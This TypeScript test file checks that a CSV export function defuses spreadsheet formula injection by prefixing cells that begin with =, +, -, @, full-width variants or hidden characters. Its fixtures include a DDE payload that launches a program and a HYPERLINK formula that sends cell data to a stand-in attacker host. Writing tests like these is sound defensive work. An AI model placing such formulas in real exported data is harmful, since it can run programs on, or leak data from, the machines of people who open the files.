import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { toCell, toHarmlessText } from '../../shared/exports/cells.ts';
import { toFile as toFileParts } from '../../shared/exports/formats.ts';
import { hostile } from '../pages/samples.ts';

async function toFile(...given: Parameters<typeof toFileParts>) {
  const { parts, rows } = await toFileParts(...given);
  return { body: Buffer.concat(parts), rows };
}

const read = (csv: Buffer | string): string[][] => parse(csv, { bom: true, relax_column_count: false });

async function throughCsv(...values: unknown[]): Promise<string[]> {
  const rows = values.map((value) => ({ cell: value, last: 'end' }));
  const table = { columns: ['cell', 'last'], pages: [rows] as never };
  return read((await toFile(table, 'csv')).body)
    .slice(1)
    .map(([cell = '']) => cell);
}

/** Text → the text of its cell. */
const cells: [name: string, text: string, cell: string][] = [
  ['a formula', '=1+1', "'=1+1"],
  ['a formula that calls a program', "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  [
    'a formula that fetches',
    '=HYPERLINK("https://evil.example?"&A1)',
    `'=HYPERLINK("https://evil.example?"&A1)`,
  ],
  ['a plus', '+1+1', "'+1+1"],
  ['a minus', '-1+1', "'-1+1"],
  ['an at sign', '@SUM(A1)', "'@SUM(A1)"],
  ['a leading tab', '\t=1', "'\t'=1"],
  ['a leading tab alone', '\tname', "'\tname"],
  ['a leading carriage return', '\r=1', "'\r'=1"],
  ['a leading line feed', '\n=1', "'\n'=1"],
  ['a leading blank', ' =1', "' =1"],
  ['a leading no-break space', '\u00a0=1', "'\u00a0=1"],
  ['a leading zero-width space', '\u200b=1', "'\u200b=1"],
  ['a leading byte-order mark', '\ufeff=1', "'\ufeff=1"],
  ['a leading right-to-left override', '\u202e=1', "'\u202e=1"],
  ['a full-width equals sign', '＝1+1', "'＝1+1"],
  ['a full-width plus', '＋1', "'＋1"],
  ['a full-width minus', '－1', "'－1"],
  ['a full-width at sign', '＠SUM(A1)', "'＠SUM(A1)"],
  ['a quoted formula', '"=1+1"', `'"=1+1"`],
  ['a quoted cell parted at a semicolon', 'Contoso;"=1+1"', `Contoso;'"=1+1"`],
  ['a cell parted at a semicolon', 'Contoso;=1+1', "Contoso;'=1+1"],
  ['a cell parted at a tab', 'Contoso\t @SUM(A1)', "Contoso\t' @SUM(A1)"],
  ['a row parted at a line feed', 'Contoso\n=1+1', "Contoso\n'=1+1"],
  ['a row parted at a line break', 'Contoso\r\n-1', "Contoso\r\n'-1"],
  ['an ordinary name', 'Contoso - West, Ltd; “North” + South', 'Contoso - West, Ltd; “North” + South'],
  ['an address', 'first.last+tag@contoso.com', 'first.last+tag@contoso.com'],
  ['quotes', 'Contoso "the best"', 'Contoso "the best"'],
  ['nothing', '', ''],
  ['markup', hostile.markup, hostile.markup],
  ['right to left', hostile.rightToLeft, hostile.rightToLeft],
  ['256 characters', hostile.long, hostile.long],
  ['another script', hostile.mixed, hostile.mixed],
];

test.each(cells)('%s comes out of a CSV file harmless', async (_name, text, cell) => {
  expect(await throughCsv(text)).toEqual([cell]);
});

test('values that are no text keep what they are', async () => {
  expect(await throughCsv(-1, 0, 1.5, -1e21, true, false, null, ['a', 'b'], [], { state: '=1' })).toEqual([
    '-1',
    '0',
    '1.5',
    '-1e+21',
    'true',
    'false',
    '',
    'a; b',
    '',
    '{"state":"=1"}',
  ]);
  expect(toCell(['Microsoft 365 E3', '=1+1'])).toBe("Microsoft 365 E3;' =1+1");
});

test('whatever a cell holds and whoever parts it where, none begins with a formula', async () => {
  const nasty = fc.string({
    unit: fc.constantFrom(...'=+-@＝ab"\',;\t\r\n \u200b\u202e\ufeff'),
    maxLength: 12,
  });
  await fc.assert(
    fc.asyncProperty(fc.array(nasty, { minLength: 1, maxLength: 4 }), async (texts) => {
      const { body } = await toFile({ columns: ['a'], pages: [texts.map((a) => ({ a }))] }, 'csv');
      const text = body.toString('utf8').replace(/^\ufeff/, '');
      const cells = read(body).slice(1);
      expect(cells).toEqual(texts.map((each) => [toHarmlessText(each)]));
      for (const part of text.split(/[;\t\r\n]/))
        expect(part.replace(/^[\s"\p{Cf}]*/u, '')).not.toMatch(/^[=+\-@＝]/);
    }),
    { numRuns: 300 },
  );
});

test('a CSV file has a mark, a heading and CRLF; NDJSON has the values as they are', async () => {
  const rows = [{ name: '=1', seats: -1, tags: ['a'], gone: null }];
  const table = { columns: ['name', 'seats', 'tags', 'gone'], pages: [rows, [], rows] };
  const csv = await toFile(table, 'csv');
  expect(csv.body.toString('utf8')).toBe("\ufeffname,seats,tags,gone\r\n'=1,-1,a,\r\n'=1,-1,a,\r\n");
  const ndjson = await toFile(table, 'ndjson');
  expect(
    ndjson.body
      .toString('utf8')
      .split('\n')
      .filter(Boolean)
      .map((line) => JSON.parse(line)),
  ).toEqual([...rows, ...rows]);
  expect([csv.rows, ndjson.rows]).toEqual([2, 2]);
});

test('a table without rows is its heading, or nothing', async () => {
  const table = { columns: ['a', 'b'], pages: [] };
  expect((await toFile(table, 'csv')).body.toString('utf8')).toBe('\ufeffa,b\r\n');
  expect((await toFile(table, 'ndjson')).body).toHaveLength(0);
});

test('a page that cannot be read leaves no file', async () => {
  async function* pages() {
    yield [{ a: 1 }];
    throw new Error('The second page is gone');
  }
  await expect(toFile({ columns: ['a'], pages: pages() }, 'csv')).rejects.toThrow('The second page is gone');
});
